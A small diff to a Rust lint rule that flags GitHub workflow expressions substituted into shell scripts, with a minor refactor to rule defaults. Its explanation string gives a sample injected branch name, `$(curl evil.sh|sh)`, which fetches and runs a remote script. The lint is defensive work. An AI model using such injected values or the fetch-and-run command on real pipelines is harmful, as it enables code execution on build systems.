@@ -21,7 +21,6 @@ pub(super) static RULE: Rule = Rule {
     why: "An expression is replaced before the shell reads the script, so a branch called `$(curl evil.sh|sh)` is a command. \
           A value that comes in through the environment stays a value: write `env.TITLE = 'Branch` and `\"$TITLE\"`.",
     severity: Severity::Error,
-    settings: "",
     refused: &[Refused { kind: FaultKind::Expression, path: ANYWHERE }],
     check: Check::Project(check),
     examples: &[
@@ -45,6 +44,7 @@ pub(super) static RULE: Rule = Rule {
             r#"{ jobs.test.steps = [{ uses = "actions/github-script", with.script = "console.log(process.env.HEAD)", env.HEAD = 'Branch }] }"#,
         )]),
     ],
+    ..Rule::GITHUB
 };
 
 fn check(scope: &Scope<'_>, findings: &mut Findings) {
